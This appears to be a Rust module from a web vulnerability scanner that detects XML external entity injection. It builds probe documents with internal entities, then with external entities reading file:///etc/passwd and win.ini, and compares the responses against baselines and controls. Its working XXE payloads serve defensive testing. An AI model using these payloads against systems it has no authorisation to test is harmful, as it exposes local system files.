//! XML external entity injection.
//!
//! What: every parameter, and every request body that is a whole XML document (found in a
//! script's `fetch`/`XMLHttpRequest` call or an OpenAPI document, sent with its own content
//! type), first gets a small XML document whose DOCTYPE defines two internal entities and
//! references them side by side; only a parser that processes the DTD prints their
//! concatenation (a random marker that appears nowhere in the request). Where the original
//! value is an XML document, the references go into its first text node, keeping its root
//! element and structure (applications that read one element see them); otherwise, or when
//! that is not printed, into a lone root element. Where the marker appears, the parameter is
//! XML parsed with DTDs on, and documents with an external entity naming a file every system
//! has (`file:///etc/passwd`, `file:///c:/windows/win.ini`) follow, in the shape that worked. A
//! finding needs the file's known content in the answer, absent from the baseline and from a
//! control document without a DTD sent to the same parameter. Parsers that expand internal
//! entities but refuse external ones (lxml's default, `resolve_entities="internal"`) are not
//! reported.
//!
//! Why: external entities read local files, reach internal services (SSRF) and exhaust memory.
//!
//! Example: `xml=<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>` →
//! `root:x:0:0:root:/root:/bin/bash`; `POST /api/import` with `Content-Type: application/xml`
//! and `<!DOCTYPE note [...]><note><body>&x;</body></note>` likewise.
//!
//! References: CWE-611 (Improper Restriction of XML External Entity Reference); OWASP
//! WSTG-INPV-07.

use std::sync::LazyLock;

use regex::Regex;

use super::re;
use super::traversal::SYSTEM_FILE;
use crate::checks::{Info, ParamCheck, Probe, canary};
use crate::error::ScanError;
use crate::finding::{Finding, Severity};
use crate::target::Location;

/// The check: parameters (query, form, multipart parts and uploaded files, JSON fields) and
/// whole XML bodies.
pub const CHECK: ParamCheck = ParamCheck {
    name: "xxe",
    run,
    locations: &[
        Location::Query,
        Location::Body,
        Location::Multipart,
        Location::JsonField,
        Location::XmlBody,
    ],
};

const INFO: Info = Info {
    id: "xxe.external_entity",
    title: "XML external entity injection",
    cwe: 611,
    severity: Severity::High,
    fix: "Parse untrusted XML with DTDs and external entities off (lxml: resolve_entities=False, no_network=True; Java: disallow-doctype-decl; defusedxml in Python).",
};

/// Files every Unix or Windows system has, as `file:` URLs.
const FILES: [&str; 2] = ["file:///etc/passwd", "file:///c:/windows/win.ini"];

const PROLOG: &str = "<?xml version=\"1.0\"?>";

/// The first element of a document (after a prolog, comments or a DOCTYPE) and the first
/// text node inside it: `<note><to>x</to>` → `note`, and where `x` is.
static ROOT: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"^\s*(?:<\?[^>]*\?>\s*)?(?:<!--[\s\S]*?-->\s*|<!DOCTYPE[^>\[]*(?:\[[\s\S]*?\])?\s*>\s*)*<([A-Za-z_][A-Za-z0-9_.:-]{0,100})[\s/>]",
    )
});
static TEXT_NODE: LazyLock<Regex> = LazyLock::new(|| re(r">([^<>]*[^<>\s][^<>]*)<"));

/// A document shape: where entity references go.
#[derive(Debug, Clone)]
struct Shape {
    /// The root element's name (the DOCTYPE must name it).
    root: String,
    /// The document before and after the place of the references.
    before: String,
    after: String,
}

impl Shape {
    /// `<root>…</root>`.
    fn lone(root: &str) -> Self {
        Self {
            root: root.to_owned(),
            before: format!("<{root}>"),
            after: format!("</{root}>"),
        }
    }

    /// The original document with its first text node replaced, if it is one with text.
    fn within(document: &str) -> Option<Self> {
        let root = ROOT.captures(document)?.get(1)?;
        let body = &document[root.start() - 1..];
        let text = TEXT_NODE.captures(body)?.get(1)?;
        Some(Self {
            root: root.as_str().to_owned(),
            before: body[..text.start()].to_owned(),
            after: body[text.end()..].to_owned(),
        })
    }

    /// The document with `entities` declared and `references` in place.
    fn document(&self, entities: &str, references: &str) -> String {
        format!(
            "{PROLOG}<!DOCTYPE {} [{entities}]>{}{references}{}",
            self.root, self.before, self.after
        )
    }
}

fn run(probe: &Probe<'_>) -> Result<Option<Finding>, ScanError> {
    if SYSTEM_FILE.is_match(&probe.baseline.body) {
        return Ok(None);
    }
    let original = probe.original();
    let mut shapes: Vec<Shape> = Shape::within(original).into_iter().collect();
    let root = ROOT
        .captures(original)
        .and_then(|c| c.get(1))
        .map_or("r", |m| m.as_str());
    shapes.push(Shape::lone(root));
    // Two halves defined as internal entities: the whole marker exists only once expanded.
    let (a, b) = (canary("plxa"), canary("plxb"));
    let mut expanding = None;
    for shape in shapes {
        let expanded = probe.send(&internal_document(&shape, &a, &b))?;
        if expanded.body.contains(&format!("{a}{b}")) {
            expanding = Some(shape);
            break;
        }
    }
    let Some(shape) = expanding else {
        return Ok(None);
    };
    for file in FILES {
        let value = shape.document(&format!("<!ENTITY x SYSTEM \"{file}\">"), "&x;");
        let exchange = probe.send(&value)?;
        let Some(content) = SYSTEM_FILE
            .find(&exchange.body)
            .map(|m| m.as_str().trim_end().to_owned())
        else {
            continue;
        };
        let control_value = format!("{PROLOG}{}{}{}", shape.before, canary("plxc"), shape.after);
        let control = probe.send(&control_value)?;
        if SYSTEM_FILE.is_match(&control.body) {
            return Ok(None);
        }
        return Ok(Some(probe.finding(
            &INFO,
            &exchange,
            &content,
            format!(
                "internal entities are expanded ({a}{b}); the external entity {file} returned {content:?}, \
                 absent from the baseline and from a control document without a DTD"
            ),
        )));
    }
    Ok(None)
}

/// A document whose DOCTYPE defines `&a;` and `&b;`; only expansion puts `a` and `b` side by
/// side.
fn internal_document(shape: &Shape, a: &str, b: &str) -> String {
    shape.document(&format!("<!ENTITY a \"{a}\"><!ENTITY b \"{b}\">"), "&a;&b;")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_echo_of_the_probe_never_looks_expanded() {
        // An application that prints its input back must not pass for an expanding parser.
        let document = internal_document(&Shape::lone("r"), "plxaone", "plxbtwo");
        assert!(document.contains("plxaone") && document.contains("plxbtwo"));
        let escaped = document.replace('<', "&lt;").replace('>', "&gt;");
        assert!(!document.contains("plxaoneplxbtwo") && !escaped.contains("plxaoneplxbtwo"));
    }

    #[test]
    fn references_go_into_the_first_text_node_of_the_original_document() {
        let shape = Shape::within(
            "<?xml version=\"1.0\"?>\n<note id=\"1\"><to> </to><body>hi</body></note>",
        )
        .unwrap_or_else(|| panic!("a document with text"));
        assert_eq!(
            shape.document("<!ENTITY x \"y\">", "&x;"),
            "<?xml version=\"1.0\"?><!DOCTYPE note [<!ENTITY x \"y\">]><note id=\"1\"><to> </to><body>&x;</body></note>"
        );
        assert!(Shape::within("<empty/>").is_none());
        assert!(Shape::within("palisade").is_none());
        assert_eq!(
            Shape::lone("r").document("", "&a;"),
            "<?xml version=\"1.0\"?><!DOCTYPE r []><r>&a;</r>"
        );
    }
}
